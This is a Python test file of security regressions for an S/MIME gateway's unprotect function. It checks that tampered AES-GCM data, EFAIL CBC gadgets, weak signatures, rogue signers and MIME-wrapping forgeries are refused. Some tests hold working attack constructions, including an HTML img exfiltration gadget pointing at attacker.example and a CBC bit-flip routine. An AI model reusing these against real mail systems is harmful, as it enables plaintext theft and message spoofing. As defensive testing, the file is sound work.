"""Security regressions for S/MIME and CMS (THREATS.md section D): what unprotect refuses.

Each test builds one hostile message through the real code paths, or crafts the CMS by hand
where the attack needs something our own signer refuses to make (a weak key, a second
signer, a lying attribute), and asserts the exact reason code. Where a message is refused,
the tests also check that none of its plaintext reached the error.
"""

from __future__ import annotations

import base64
import hashlib
from collections.abc import Callable
from datetime import timedelta

import pytest
from asn1crypto import cms, core
from asn1crypto import x509 as asn1_x509
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding, rsa
from cryptography.x509.oid import ExtendedKeyUsageOID, NameOID

from securemail.pki.authority import Issued, generate_key, issue, issue_for_key, make_root_ca
from securemail.smime import (
    ProtectOptions,
    Reason,
    ReceiptBasis,
    ReceiptRequest,
    SignerIdentity,
    SmimeError,
    TrustStore,
    Unprotected,
    algorithms,
    attributes,
    der,
    encrypt,
    make_receipt,
    mime,
    oids,
    protect,
    sign,
    sign_message,
    unprotect,
    verify_receipt,
)
from securemail.smime.algorithms import CipherName
from securemail.smime.asn1 import GCMParameters
from securemail.smime.decrypt import decrypt
from securemail.smime.verify import verify_signed_data
from tests.conftest import NOW, Org, Pki

SECRET = b"Treasury line 7: NZ$ 4,210,000 for the Wellington office (IN-CONFIDENCE)"
ORIGINAL = (
    b"From: Alice Example <alice@agency.govt.nz>\r\n"
    b"To: bob@ministry.govt.nz\r\n"
    b"Subject: Budget figures\r\n"
    b"Date: Sun, 29 Nov 2026 12:00:00 +1300\r\n"
    b"Message-ID: <threats-1@agency.govt.nz>\r\n"
    b"MIME-Version: 1.0\r\n"
    b"Content-Type: text/plain; charset=utf-8\r\n"
    b"\r\n"
    b"The figures for the next quarter follow, line by line, as agreed last week.\r\n"
    + SECRET
    + b"\r\nPlease keep them within the team until the announcement.\r\n"
)
PKCS7_HEADER = b"Content-Type: application/pkcs7-mime; smime-type=%s\r\n"


# --- building hostile messages ----------------------------------------------------------------


def open_as(
    pki: Pki, data: bytes, *, trust: TrustStore | None = None, require_encryption: bool = False
) -> Unprotected:
    """Unprotect ``data`` as the ministry's gateway at ``NOW``."""
    return unprotect(
        data,
        identities=[pki.ministry.recipient],
        trust=trust or pki.trust(),
        now=NOW,
        require_encryption=require_encryption,
    )


def refusal(action: Callable[[], object]) -> SmimeError:
    """Run ``action``, which must raise SmimeError; return the error."""
    with pytest.raises(SmimeError) as caught:
        action()
    return caught.value


def assert_no_plaintext(error: SmimeError, *fragments: bytes, frames: bool = False) -> None:
    """Nothing the caller can see or log from ``error`` holds any of ``fragments``.

    Checks the detail, message and repr of the error and of the exceptions chained to it.
    With ``frames``, also the local variables of every S/MIME-core frame its traceback keeps
    alive (what an error reporter that records locals would send off): the promise for a
    message that failed GCM authentication, whose plaintext, and the content key that would
    recover it, must never outlive the cipher. (After a successful decryption, e.g. CBC
    whose signature then fails, the decrypted bytes are legitimately in those frames.)
    """
    texts: list[str] = []
    chained: BaseException | None = error
    while chained is not None:
        texts += [str(chained), repr(chained), *map(str, chained.args)]
        chained = chained.__cause__ or chained.__context__
    texts.append(error.detail)
    for fragment in fragments:
        for text in texts:
            assert fragment.decode("latin-1") not in text
    trace = error.__traceback__ if frames else None
    while trace is not None:
        if "/securemail/smime/" in trace.tb_frame.f_code.co_filename:
            for value in trace.tb_frame.f_locals.values():
                if isinstance(value, bytes | bytearray | memoryview):
                    assert not any(f in bytes(value) for f in fragments), trace.tb_frame
        trace = trace.tb_next


def split_outer(message: bytes) -> tuple[bytes, bytes]:
    """(outer header block ending in CRLF CRLF, decoded CMS DER) of a protected message."""
    head, _, body = message.partition(b"\r\n\r\n")
    return head + b"\r\n\r\n", base64.b64decode(body)


def join_outer(head: bytes, envelope: bytes) -> bytes:
    return head + mime.encode_base64(envelope)


def opaque_entity(cms_der: bytes, smime_type: bytes = b"signed-data") -> bytes:
    """An application/pkcs7-mime entity holding ``cms_der``."""
    return (
        PKCS7_HEADER % smime_type
        + b"Content-Transfer-Encoding: base64\r\n\r\n"
        + mime.encode_base64(cms_der)
    )


def sealed(inner: bytes, to: Org, smime_type: bytes = b"authEnveloped-data") -> bytes:
    """``inner`` encrypted (AES-256-GCM) to ``to``, as a whole peer message."""
    envelope = encrypt.encrypt(inner, [to.certificate]).join()
    outer = b"From: alice@agency.govt.nz\r\nTo: bob@ministry.govt.nz\r\nMIME-Version: 1.0\r\n"
    return outer + opaque_entity(envelope, smime_type)


def unchecked_signer(certificate: x509.Certificate, key: rsa.RSAPrivateKey) -> SignerIdentity:
    """A SignerIdentity that skips the sender-side key checks, as a hostile peer would."""
    signer: SignerIdentity = object.__new__(SignerIdentity)
    object.__setattr__(signer, "certificate", certificate)
    object.__setattr__(signer, "private_key", key)
    object.__setattr__(signer, "chain", ())
    return signer


def signed_attributes(
    signer: SignerIdentity,
    content: bytes,
    *,
    hash_name: str = "sha256",
    content_type: str = oids.ID_DATA,
    named: SignerIdentity | None = None,
) -> bytes:
    """Signed attributes over ``content``; signingCertificateV2 names ``named`` (or signer)."""
    return attributes.build_signed_attributes(
        content_type=content_type,
        digest=hashlib.new(hash_name, content).digest(),
        signer=named or signer,
        now=NOW,
    )


def signer_info(
    signer: SignerIdentity,
    attrs: bytes,
    *,
    hash_algorithm: hashes.HashAlgorithm | None = None,
    digest_oid: str = oids.SHA256,
    signature_oid: str = oids.RSA_ENCRYPTION,
) -> bytes:
    """A SignerInfo with an RSA PKCS#1 v1.5 signature made with any digest we choose."""
    key = signer.private_key
    assert isinstance(key, rsa.RSAPrivateKey)
    value = key.sign(attrs, padding.PKCS1v15(), hash_algorithm or hashes.SHA256())
    return der.encode(
        der.SEQUENCE,
        der.integer(1),
        signer.issuer_and_serial,
        algorithms.algorithm_identifier(digest_oid),
        b"\xa0" + attrs[1:],
        algorithms.algorithm_identifier(signature_oid, algorithms.NULL),
        der.octet_string(value).join(),
    )


def signed_data(
    content: bytes,
    infos: list[bytes],
    certificates: list[x509.Certificate],
    *,
    digest_oids: tuple[str, ...] = (oids.SHA256,),
    content_type: str = oids.ID_DATA,
) -> bytes:
    """A SignedData ContentInfo assembled from parts (RFC 5652 §5.1)."""
    encap = der.encode(
        der.SEQUENCE,
        der.oid(content_type),
        der.encode(0xA0, der.octet_string(content).join()),
    )
    body = der.encode(
        der.SEQUENCE,
        der.integer(1),
        der.der_set(algorithms.algorithm_identifier(o) for o in digest_oids),
        encap,
        der.encode(0xA0, *sorted(c.public_bytes(serialization.Encoding.DER) for c in certificates)),
        der.der_set(infos),
    )
    return der.encode(der.SEQUENCE, der.oid(oids.ID_SIGNED_DATA), der.encode(0xA0, body))


def certificate(ca: Issued, eku: list[x509.ObjectIdentifier] | None) -> Issued:
    """A gateway-like certificate from ``ca`` with the given extended key usage (or none)."""
    private = generate_key("rsa2048")
    assert isinstance(private, rsa.RSAPrivateKey)
    builder = (
        x509.CertificateBuilder()
        .subject_name(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "odd gateway")]))
        .issuer_name(ca.certificate.subject)
        .public_key(private.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(NOW - timedelta(days=1))
        .not_valid_after(NOW + timedelta(days=30))
        .add_extension(x509.BasicConstraints(ca=False, path_length=None), critical=True)
        .add_extension(
            x509.KeyUsage(
                digital_signature=True,
                content_commitment=False,
                key_encipherment=True,
                data_encipherment=False,
                key_agreement=False,
                key_cert_sign=False,
                crl_sign=False,
                encipher_only=False,
                decipher_only=False,
            ),
            critical=True,
        )
        .add_extension(
            x509.AuthorityKeyIdentifier.from_issuer_public_key(ca.private_key.public_key()),
            critical=False,
        )
    )
    if eku is not None:
        builder = builder.add_extension(x509.ExtendedKeyUsage(eku), critical=False)
    return Issued(builder.sign(ca.private_key, hashes.SHA256()), private)


def protected(pki: Pki, cipher: CipherName = "aes256-gcm", *, binary: bool = False) -> bytes:
    """ORIGINAL signed by the agency and encrypted to the ministry."""
    options = ProtectOptions(cipher=cipher, inner_encoding="binary" if binary else "base64")
    return protect(
        ORIGINAL, pki.agency.signer, [pki.ministry.certificate], now=NOW, options=options
    ).message


def locate(haystack: bytes, needle: bytes) -> int:
    """Offset of the only occurrence of ``needle`` in ``haystack``."""
    assert haystack.count(needle) == 1
    return haystack.index(needle)


# --- D1: tampered AES-GCM ---------------------------------------------------------------------


def gcm_parts(envelope: bytes) -> tuple[int, int, int]:
    """(ciphertext offset, ciphertext length, tag offset) inside an AuthEnvelopedData."""
    content = cms.ContentInfo.load(envelope)["content"]
    ciphertext = content["auth_encrypted_content_info"]["encrypted_content"].contents
    tag = content["mac"].contents
    return locate(envelope, ciphertext), len(ciphertext), locate(envelope, tag)


def content_key(pki: Pki, envelope: bytes) -> bytes:
    """The AES key of an envelope to the ministry (RSA-OAEP), as only the ministry can see it."""
    ktri = cms.ContentInfo.load(envelope)["content"]["recipient_infos"][0].chosen
    key = pki.ministry.issued.private_key
    assert isinstance(key, rsa.RSAPrivateKey)
    oaep = padding.OAEP(padding.MGF1(hashes.SHA256()), hashes.SHA256(), None)
    return key.decrypt(ktri["encrypted_key"].native, oaep)


def test_gcm_ciphertext_byte_tampered(pki: Pki) -> None:
    """One changed byte of AES-GCM ciphertext is refused as integrity-failed, with no plaintext."""
    head, envelope = split_outer(protected(pki))
    start, length, _ = gcm_parts(envelope)
    tampered = bytearray(envelope)
    tampered[start + length // 2] ^= 0x01
    error = refusal(lambda: open_as(pki, join_outer(head, bytes(tampered))))
    assert error.reason is Reason.INTEGRITY_FAILED
    key = content_key(pki, envelope)
    assert_no_plaintext(error, SECRET, b"figures for the next quarter", key, frames=True)


def test_gcm_tag_tampered(pki: Pki) -> None:
    """A changed GCM authentication tag is refused as integrity-failed, with no plaintext."""
    head, envelope = split_outer(protected(pki))
    _, _, tag = gcm_parts(envelope)
    tampered = bytearray(envelope)
    tampered[tag + 15] ^= 0x80
    error = refusal(lambda: open_as(pki, join_outer(head, bytes(tampered))))
    assert error.reason is Reason.INTEGRITY_FAILED
    key = content_key(pki, envelope)
    assert_no_plaintext(error, SECRET, b"figures for the next quarter", key, frames=True)


def test_gcm_truncated_tag_refused(pki: Pki) -> None:
    """A GCM tag cut to 4 bytes (forgeable by brute force) is refused before decryption."""
    head, envelope = split_outer(protected(pki))
    info = cms.ContentInfo.load(envelope)
    content = info["content"]
    algorithm = content["auth_encrypted_content_info"]["content_encryption_algorithm"]
    nonce = GCMParameters.load(algorithm["parameters"].dump())["aes_nonce"].native
    short = der.encode(der.SEQUENCE, der.octet_string(nonce).join(), der.integer(4))
    algorithm["parameters"] = core.Any.load(short)
    content["mac"] = content["mac"].native[:4]
    error = refusal(lambda: open_as(pki, join_outer(head, info.dump(force=True))))
    assert error.reason is Reason.MALFORMED
    assert "GCM tag of 4 bytes" in error.detail
    assert_no_plaintext(error, SECRET)


def test_forged_rsa_key_block_fails_like_forged_ciphertext(pki: Pki) -> None:
    """A corrupted RSA-wrapped key gives the same integrity-failed as a bad tag: no oracle."""
    head, envelope = split_outer(protected(pki))
    ktri = cms.ContentInfo.load(envelope)["content"]["recipient_infos"][0].chosen
    wrapped = ktri["encrypted_key"].contents
    tampered = bytearray(envelope)
    tampered[locate(envelope, wrapped) + 7] ^= 0x01
    forged_key = refusal(lambda: open_as(pki, join_outer(head, bytes(tampered))))
    _, _, tag = gcm_parts(envelope)
    tampered = bytearray(envelope)
    tampered[tag] ^= 0x01
    forged_tag = refusal(lambda: open_as(pki, join_outer(head, bytes(tampered))))
    assert forged_key.reason is forged_tag.reason is Reason.INTEGRITY_FAILED
    assert forged_key.detail == forged_tag.detail


# --- D2/D3: EFAIL -----------------------------------------------------------------------------


def test_cbc_malleation_efail_gadget_fails_signature(pki: Pki) -> None:
    """An EFAIL CBC gadget that rewrites a block of the signed content is refused, never opened
    (binary inner entity, so the attacker knows the plaintext block by block)."""
    head, envelope = split_outer(protected(pki, cipher="aes256-cbc", binary=True))
    plaintext, _ = decrypt(envelope, [pki.ministry.recipient])  # the attacker's known plaintext
    ciphertext = cms.ContentInfo.load(envelope)["content"]["encrypted_content_info"][
        "encrypted_content"
    ].contents
    offset = locate(envelope, ciphertext)
    block = locate(plaintext, SECRET) // 16 + 1  # a whole block inside the signed content
    known = plaintext[block * 16 : block * 16 + 16]
    chosen = b'<img src="http:/'  # the classic exfiltration gadget, 16 bytes
    tampered = bytearray(envelope)
    for i in range(16):  # C[i-1] ^= known ^ chosen  sets P[i] = chosen, garbles P[i-1]
        tampered[offset + (block - 1) * 16 + i] ^= known[i] ^ chosen[i]
    altered, _ = decrypt(bytes(tampered), [pki.ministry.recipient])
    assert altered[block * 16 : block * 16 + 16] == chosen  # the gadget works on CBC itself
    error = refusal(lambda: open_as(pki, join_outer(head, bytes(tampered))))
    assert error.reason is Reason.DECRYPT_FAILED  # one code under CBC: no oracle
    assert_no_plaintext(error, SECRET, chosen)


@pytest.mark.parametrize("block_from_end", [1, 2, 5])
def test_cbc_bit_flip_never_succeeds(pki: Pki, block_from_end: int) -> None:
    """A bit flipped in the last, padding or a middle CBC block never yields a message."""
    head, envelope = split_outer(protected(pki, cipher="aes256-cbc"))
    ciphertext = cms.ContentInfo.load(envelope)["content"]["encrypted_content_info"][
        "encrypted_content"
    ].contents
    end = locate(envelope, ciphertext) + len(ciphertext)
    tampered = bytearray(envelope)
    tampered[end - block_from_end * 16 - 3] ^= 0x04
    error = refusal(lambda: open_as(pki, join_outer(head, bytes(tampered))))
    assert error.reason is Reason.DECRYPT_FAILED  # one code under CBC: no oracle
    assert_no_plaintext(error, SECRET)


def test_efail_direct_exfiltration_layout_refused(pki: Pki) -> None:
    """Plaintext HTML parts around the encrypted part (EFAIL direct exfiltration) are refused."""
    _, envelope = split_outer(protected(pki))
    encrypted_part = opaque_entity(envelope, b"authEnveloped-data")
    message = (
        b"From: alice@agency.govt.nz\r\nTo: bob@ministry.govt.nz\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/mixed; boundary="efail"\r\n\r\n'
        b'--efail\r\nContent-Type: text/html\r\n\r\n<img src="http://attacker.example/\r\n'
        b"--efail\r\n" + encrypted_part + b"\r\n"
        b'--efail\r\nContent-Type: text/html\r\n\r\n">\r\n'
        b"--efail--\r\n"
    )
    error = refusal(lambda: open_as(pki, message))
    assert error.reason in (Reason.NOT_SIGNED, Reason.MALFORMED)
    assert_no_plaintext(error, SECRET)


def test_two_content_type_fields_refused(pki: Pki) -> None:
    """An outer header with a second Content-Type (multipart/mixed) is malformed, not guessed."""
    message = protected(pki).replace(
        b"MIME-Version: 1.0\r\n",
        b'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="x"\r\n',
    )
    assert refusal(lambda: open_as(pki, message)).reason is Reason.MALFORMED


# --- D4, D7: unsigned, untrusted or weakly signed ---------------------------------------------


def test_plain_message_on_peer_port_refused(pki: Pki) -> None:
    """A plain RFC 5322 message (neither signed nor encrypted) is refused as not-signed."""
    assert refusal(lambda: open_as(pki, ORIGINAL)).reason is Reason.NOT_SIGNED


def test_signed_only_refused_when_encryption_required(pki: Pki) -> None:
    """A signed but unencrypted message is refused on a path that requires encryption."""
    message = sign_message(ORIGINAL, pki.agency.signer, now=NOW).message
    error = refusal(lambda: open_as(pki, message, require_encryption=True))
    assert error.reason is Reason.NOT_ENCRYPTED


def test_decrypted_content_unsigned(pki: Pki) -> None:
    """Encrypted but unsigned content is refused as not-signed, and none of it is returned."""
    error = refusal(lambda: open_as(pki, sealed(ORIGINAL, pki.ministry)))
    assert error.reason is Reason.NOT_SIGNED
    assert_no_plaintext(error, SECRET)


def test_cbc_refusals_share_one_reason_code(pki: Pki) -> None:
    """Under CBC, unsigned content is decrypt-failed like bad padding: no format oracle."""
    envelope = encrypt.encrypt(ORIGINAL, [pki.ministry.certificate], cipher="aes256-cbc").join()
    head = b"From: alice@agency.govt.nz\r\nTo: bob@ministry.govt.nz\r\nMIME-Version: 1.0\r\n"
    error = refusal(lambda: open_as(pki, head + opaque_entity(envelope, b"enveloped-data")))
    assert error.reason is Reason.DECRYPT_FAILED
    assert "not-signed" in error.detail
    assert_no_plaintext(error, SECRET)


def test_signer_from_foreign_ca(pki: Pki) -> None:
    """A signer whose CA is not a federation anchor (even one copying its name) is untrusted."""
    impostor = make_root_ca("SecureMail Test Federation", now=NOW)  # same name, other key
    rogue = issue(
        impostor, "SecureMail gateway agency.govt.nz", now=NOW, domains=["agency.govt.nz"]
    )
    signer = SignerIdentity(rogue.certificate, rogue.private_key, chain=(impostor.certificate,))
    message = protect(ORIGINAL, signer, [pki.ministry.certificate], now=NOW).message
    assert refusal(lambda: open_as(pki, message)).reason is Reason.UNTRUSTED_SIGNER


def test_decrypted_bytes_not_kept_by_a_refusal_after_decryption(pki: Pki) -> None:
    """A GCM message that decrypts but has an untrusted signer leaves no plaintext in frames."""
    impostor = make_root_ca("Impostor", now=NOW)
    rogue = issue(impostor, "rogue", now=NOW, domains=["agency.govt.nz"])
    signer = SignerIdentity(rogue.certificate, rogue.private_key, chain=(impostor.certificate,))
    message = protect(ORIGINAL, signer, [pki.ministry.certificate], now=NOW).message
    error = refusal(lambda: open_as(pki, message))
    assert error.reason is Reason.UNTRUSTED_SIGNER
    assert_no_plaintext(error, SECRET, frames=True)


def test_revoked_signer(pki: Pki) -> None:
    """A signer the federation CRL lists as revoked is refused as revoked."""
    message = protect(ORIGINAL, pki.revoked.signer, [pki.ministry.certificate], now=NOW).message
    assert refusal(lambda: open_as(pki, message)).reason is Reason.REVOKED


def test_expired_signer(pki: Pki) -> None:
    """A signer certificate past its notAfter at the time of checking is certificate-expired."""
    old = issue(pki.ca, "SecureMail gateway old.govt.nz", now=NOW - timedelta(days=800), days=730)
    signer = SignerIdentity(old.certificate, old.private_key)
    message = protect(ORIGINAL, signer, [pki.ministry.certificate], now=NOW).message
    assert old.certificate.not_valid_after_utc < NOW
    assert refusal(lambda: open_as(pki, message)).reason is Reason.CERTIFICATE_EXPIRED


def test_signer_not_yet_valid(pki: Pki) -> None:
    """A signer certificate whose notBefore is in the future is refused (certificate-expired)."""
    future = issue(
        pki.ca, "SecureMail gateway early.govt.nz", now=NOW, not_before=NOW + timedelta(days=1)
    )
    message = sign_message(
        ORIGINAL, SignerIdentity(future.certificate, future.private_key), now=NOW
    ).message
    assert refusal(lambda: open_as(pki, message)).reason is Reason.CERTIFICATE_EXPIRED


def test_no_crl_with_revocation_required(pki: Pki) -> None:
    """Without any CRL, a store that requires revocation answers revocation-unknown."""
    trust = TrustStore([pki.ca.certificate], [], require_revocation=True)
    message = protected(pki)
    assert refusal(lambda: open_as(pki, message, trust=trust)).reason is Reason.REVOCATION_UNKNOWN


@pytest.mark.parametrize(
    ("digest_oid", "hash_algorithm"),
    [(oids.MD5, hashes.MD5()), (oids.SHA1, hashes.SHA1())],  # noqa: S303
    ids=["md5", "sha1"],
)
def test_weak_digest_algorithm(
    pki: Pki, digest_oid: str, hash_algorithm: hashes.HashAlgorithm
) -> None:
    """A genuine signature made with an MD5 or SHA-1 digest is refused as weak-algorithm."""
    signer = pki.agency.signer
    attrs = signed_attributes(signer, ORIGINAL, hash_name=hash_algorithm.name)
    info = signer_info(signer, attrs, hash_algorithm=hash_algorithm, digest_oid=digest_oid)
    cms_der = signed_data(ORIGINAL, [info], [signer.certificate], digest_oids=(digest_oid,))
    error = refusal(lambda: open_as(pki, sealed(opaque_entity(cms_der), pki.ministry)))
    assert error.reason is Reason.WEAK_ALGORITHM


def test_weak_signature_algorithm_sha1_with_rsa(pki: Pki) -> None:
    """A SignerInfo naming sha1WithRSAEncryption is refused as weak-algorithm."""
    signer = pki.agency.signer
    attrs = signed_attributes(signer, ORIGINAL)
    info = signer_info(
        signer,
        attrs,
        hash_algorithm=hashes.SHA1(),  # noqa: S303 - the attack under test
        signature_oid=oids.SHA1_WITH_RSA,
    )
    cms_der = signed_data(ORIGINAL, [info], [signer.certificate])
    error = refusal(lambda: open_as(pki, sealed(opaque_entity(cms_der), pki.ministry)))
    assert error.reason is Reason.WEAK_ALGORITHM


def test_rsa_1024_signer(pki: Pki) -> None:
    """A valid signature by a federation-issued RSA-1024 key is refused as weak-algorithm."""
    key = rsa.generate_private_key(public_exponent=65537, key_size=1024)  # noqa: S505
    cert = issue_for_key(pki.ca, "SecureMail gateway weak.govt.nz", key.public_key(), now=NOW)
    with pytest.raises(SmimeError):  # our own signer will not make it ...
        SignerIdentity(cert, key)
    weak = sign.sign(ORIGINAL, unchecked_signer(cert, key), now=NOW)  # ... a hostile peer will
    public = cert.public_key()
    assert isinstance(public, rsa.RSAPublicKey)
    public.verify(  # genuinely valid: only the key size is wrong
        weak.signature_value, weak.signed_attributes, padding.PKCS1v15(), hashes.SHA256()
    )
    error = refusal(lambda: open_as(pki, sealed(opaque_entity(weak.der.join()), pki.ministry)))
    assert error.reason is Reason.WEAK_ALGORITHM


def test_sha1_signed_signer_certificate(pki: Pki) -> None:
    """A signer certificate the CA signed with SHA-1 is refused as weak-algorithm."""
    good = certificate(pki.ca, [ExtendedKeyUsageOID.EMAIL_PROTECTION])
    cert = asn1_x509.Certificate.load(good.certificate.public_bytes(serialization.Encoding.DER))
    tbs = cert["tbs_certificate"]
    tbs["signature"] = {"algorithm": "sha1_rsa"}
    tbs_der = tbs.dump(force=True)
    ca_key = pki.ca.private_key
    assert isinstance(ca_key, rsa.RSAPrivateKey)
    value = ca_key.sign(tbs_der, padding.PKCS1v15(), hashes.SHA1())  # noqa: S303 - the attack
    sha1_cert = asn1_x509.Certificate(
        {
            "tbs_certificate": asn1_x509.TbsCertificate.load(tbs_der),
            "signature_algorithm": {"algorithm": "sha1_rsa"},
            "signature_value": value,
        }
    )
    loaded = x509.load_der_x509_certificate(sha1_cert.dump())
    message = sign_message(ORIGINAL, SignerIdentity(loaded, good.private_key), now=NOW).message
    assert refusal(lambda: open_as(pki, message)).reason is Reason.WEAK_ALGORITHM


@pytest.mark.parametrize("count", [0, 2])
def test_signer_count(pki: Pki, count: int) -> None:
    """SignedData with no SignerInfo, or with two valid ones, is refused as signer-count."""
    signers = [pki.agency.signer, pki.ministry.signer][:count]
    infos = [signer_info(s, signed_attributes(s, ORIGINAL)) for s in signers]
    cms_der = signed_data(
        ORIGINAL, infos, [s.certificate for s in signers] or [pki.agency.certificate]
    )
    error = refusal(lambda: open_as(pki, sealed(opaque_entity(cms_der), pki.ministry)))
    assert error.reason is Reason.SIGNER_COUNT


def test_crafted_signed_data_control(pki: Pki) -> None:
    """The hand-crafted SignedData used above does verify when nothing is wrong with it."""
    signer = pki.agency.signer
    cms_der = signed_data(
        ORIGINAL, [signer_info(signer, signed_attributes(signer, ORIGINAL))], [signer.certificate]
    )
    assert open_as(pki, sealed(opaque_entity(cms_der), pki.ministry)).content == ORIGINAL


@pytest.mark.parametrize(
    "eku",
    [[ExtendedKeyUsageOID.SERVER_AUTH], None],
    ids=["server-auth-only", "no-eku"],
)
def test_signer_without_email_protection(pki: Pki, eku: list[x509.ObjectIdentifier] | None) -> None:
    """A federation-issued certificate without emailProtection may not sign mail: key-usage."""
    odd = certificate(pki.ca, eku)
    message = sign_message(ORIGINAL, SignerIdentity(odd.certificate, odd.private_key), now=NOW)
    assert refusal(lambda: open_as(pki, message.message)).reason is Reason.KEY_USAGE


def test_signer_without_digital_signature_key_usage(pki: Pki) -> None:
    """An encryption-only gateway certificate may not sign: key-usage."""
    enc = issue(pki.ca, "SecureMail gateway enc.govt.nz", now=NOW, usage="encryption")
    message = sign_message(ORIGINAL, SignerIdentity(enc.certificate, enc.private_key), now=NOW)
    assert refusal(lambda: open_as(pki, message.message)).reason is Reason.KEY_USAGE


def test_signing_certificate_v2_names_another_certificate(pki: Pki) -> None:
    """signingCertificateV2 naming a different certificate than the signer's: signature-invalid."""
    signer = pki.agency.signer
    attrs = signed_attributes(signer, ORIGINAL, named=pki.ministry.signer)
    cms_der = signed_data(ORIGINAL, [signer_info(signer, attrs)], [signer.certificate])
    error = refusal(lambda: open_as(pki, sealed(opaque_entity(cms_der), pki.ministry)))
    assert error.reason is Reason.SIGNATURE_INVALID


def test_content_type_attribute_mismatch(pki: Pki) -> None:
    """A contentType attribute (receipt) that differs from the encapsulated type: invalid."""
    signer = pki.agency.signer
    attrs = signed_attributes(signer, ORIGINAL, content_type=oids.ID_CT_RECEIPT)
    cms_der = signed_data(ORIGINAL, [signer_info(signer, attrs)], [signer.certificate])
    error = refusal(lambda: open_as(pki, sealed(opaque_entity(cms_der), pki.ministry)))
    assert error.reason is Reason.SIGNATURE_INVALID


def test_signed_content_swapped(pki: Pki) -> None:
    """A valid SignerInfo moved onto other content fails its messageDigest: signature-invalid."""
    signer = pki.agency.signer
    info = signer_info(signer, signed_attributes(signer, ORIGINAL))
    forged = ORIGINAL.replace(b"4,210,000", b"9,999,999")
    cms_der = signed_data(forged, [info], [signer.certificate])
    error = refusal(lambda: open_as(pki, sealed(opaque_entity(cms_der), pki.ministry)))
    assert error.reason is Reason.SIGNATURE_INVALID


# --- D6: MIME wrapping around a signed part ("Johnny, you are fired", 2019) -------------------

BOUNDARY = b"signed-7f3a"


def multipart_signed(pki: Pki, content: bytes = ORIGINAL, *, extra_part: bytes = b"") -> bytes:
    """A detached multipart/signed (RFC 1847) by the agency over ``content``."""
    detached = sign.sign(content, pki.agency.signer, now=NOW, detached=True).der.join()
    return (
        b"From: alice@agency.govt.nz\r\nTo: bob@ministry.govt.nz\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/signed; protocol="application/pkcs7-signature";'
        b' micalg=sha-256; boundary="' + BOUNDARY + b'"\r\n\r\n'
        b"This is an S/MIME signed message.\r\n"
        + extra_part
        + b"--"
        + BOUNDARY
        + b"\r\n"
        + content
        + b"\r\n"
        b"--" + BOUNDARY + b"\r\n"
        b"Content-Type: application/pkcs7-signature; name=smime.p7s\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n"
        + mime.encode_base64(detached)
        + b"\r\n--"
        + BOUNDARY
        + b"--\r\n"
    )


FORGED_PART = (
    b"Content-Type: text/plain\r\n\r\nURGENT: wire the funds to account 12-3456-7890123-00.\r\n"
)


def test_multipart_signed_control(pki: Pki) -> None:
    """The detached multipart/signed used by the wrapping tests verifies as itself."""
    assert open_as(pki, multipart_signed(pki)).content == ORIGINAL


def test_johnny_unsigned_part_inside_multipart_signed(pki: Pki) -> None:
    """An unsigned part inserted before the signed one (three parts) is malformed."""
    extra = b"--" + BOUNDARY + b"\r\n" + FORGED_PART + b"\r\n"
    message = multipart_signed(pki, extra_part=extra)
    assert refusal(lambda: open_as(pki, message)).reason is Reason.MALFORMED


def test_johnny_signed_message_inside_multipart_mixed(pki: Pki) -> None:
    """A valid signed message placed next to forged text in multipart/mixed is not-signed."""
    signed = multipart_signed(pki)
    message = (
        b"From: alice@agency.govt.nz\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/mixed; boundary="outer"\r\n\r\n'
        b"--outer\r\n" + FORGED_PART + b"\r\n--outer\r\n" + signed + b"\r\n--outer--\r\n"
    )
    assert refusal(lambda: open_as(pki, message)).reason is Reason.NOT_SIGNED


def test_johnny_signed_message_as_attachment(pki: Pki) -> None:
    """A valid signed message attached (message/rfc822) to an unsigned one is not-signed."""
    message = (
        b"From: mallory@agency.govt.nz\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/mixed; boundary="outer"\r\n\r\n'
        b"--outer\r\n" + FORGED_PART + b"\r\n--outer\r\n"
        b"Content-Type: message/rfc822\r\n\r\n"
        + sign_message(ORIGINAL, pki.agency.signer, now=NOW).message
        + b"\r\n--outer--\r\n"
    )
    assert refusal(lambda: open_as(pki, message)).reason is Reason.NOT_SIGNED


def test_johnny_added_outer_headers_and_preamble_are_not_delivered(pki: Pki) -> None:
    """Unsigned outer fields, preamble and epilogue are dropped: only the signed bytes."""
    message = multipart_signed(pki).replace(
        b"MIME-Version: 1.0\r\n",
        b"MIME-Version: 1.0\r\nSubject: URGENT: wire the funds\r\n"
        b"Reply-To: mallory@evil.example\r\n",
        1,  # the outer header only; the signed part has its own MIME-Version
    )
    message = message.replace(b"This is an S/MIME signed message.", FORGED_PART)
    message += b"Epilogue: " + FORGED_PART
    result = open_as(pki, message)
    assert result.content == ORIGINAL
    assert b"URGENT" not in result.content
    assert b"mallory" not in result.content


def test_johnny_added_headers_on_opaque_signed_message(pki: Pki) -> None:
    """Fields added to the outer header of an opaque signed message are not in the content."""
    message = b"Subject: URGENT: wire the funds\r\nX-Verified: yes\r\n" + (
        sign_message(ORIGINAL, pki.agency.signer, now=NOW).message
    )
    assert open_as(pki, message).content == ORIGINAL


def test_johnny_unsigned_part_next_to_signed_inside_encryption(pki: Pki) -> None:
    """Inside the encryption, a forged part beside a valid signed entity is not-signed."""
    inner = (
        b'Content-Type: multipart/mixed; boundary="inner"\r\n\r\n'
        b"--inner\r\n"
        + FORGED_PART
        + b"\r\n--inner\r\n"
        + multipart_signed(pki)
        + b"\r\n--inner--\r\n"
    )
    assert refusal(lambda: open_as(pki, sealed(inner, pki.ministry))).reason is Reason.NOT_SIGNED


def test_johnny_signed_part_content_changed(pki: Pki) -> None:
    """Changing the signed part of a multipart/signed (one header added) fails the signature."""
    message = multipart_signed(pki).replace(
        b"Subject: Budget figures\r\n", b"Subject: Budget figures\r\nReply-To: m@evil.example\r\n"
    )
    assert refusal(lambda: open_as(pki, message)).reason is Reason.SIGNATURE_INVALID


# --- D8 and layering: whom a message is for ---------------------------------------------------


def test_message_encrypted_to_someone_else(pki: Pki) -> None:
    """A message encrypted only to the council is not-for-us at the ministry."""
    message = protect(ORIGINAL, pki.agency.signer, [pki.council.certificate], now=NOW).message
    error = refusal(lambda: open_as(pki, message))
    assert error.reason is Reason.NOT_FOR_US
